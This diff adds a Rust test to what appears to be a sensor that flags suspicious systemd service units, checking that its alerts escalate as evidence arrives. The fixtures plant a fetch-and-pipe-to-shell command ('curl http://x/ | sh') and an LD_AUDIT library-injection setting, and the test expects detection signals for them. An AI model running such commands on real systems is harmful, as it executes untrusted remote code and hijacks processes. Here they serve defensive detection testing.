@@ -165,3 +165,33 @@ fn a_service_that_ran_before_the_sensor_is_known_as_well() {
     );
     assert_eq!(machine.pipeline.follows().count(), 1);
 }
+
+#[test]
+fn a_filesystem_that_does_not_answer_costs_only_what_it_holds() {
+    let mut machine = Machine::new();
+    machine.answers = false;
+    machine
+        .files
+        .insert(UNIT.into(), text_file("[Service]\nExecStart=/tmp/run\nEnvironmentFile=/mnt/dead/env\n"));
+    machine.write(shell(), SYSTEM, "app.service");
+    let wants: Vec<Want> = machine.pipeline.wants().collect();
+    machine.answer(wants[0].clone());
+    let wants: Vec<Want> = machine.pipeline.wants().collect();
+    assert!(matches!(&wants[..], [Want::Survey { .. }]) && machine.alerts().is_empty());
+    machine.tick(260 * MS);
+    let alert = machine.one();
+    let unit = alert.unit.as_ref().unwrap();
+    assert_eq!(unit.signals, ["path.world-writable"]);
+    assert!(unit.changes.contains(&"ExecStart added: /tmp/run".to_owned()), "{:?}", unit.changes);
+    // What comes later and tells more is told as well.
+    machine.files.insert(b"/tmp/run".to_vec(), program(0o755, 1000, "curl http://x/ | sh"));
+    machine.files.insert(b"/mnt/dead/env".to_vec(), text_file("LD_AUDIT=/tmp/x.so\n"));
+    machine.answer(wants[0].clone());
+    machine.tick(20 * SECOND);
+    let alert = machine.one();
+    assert_eq!(alert.severity, Severity::Critical);
+    assert_eq!(
+        alert.unit.unwrap().signals,
+        ["environment.loads", "path.world-writable", "program.owner", "command.download-and-run"]
+    );
+}
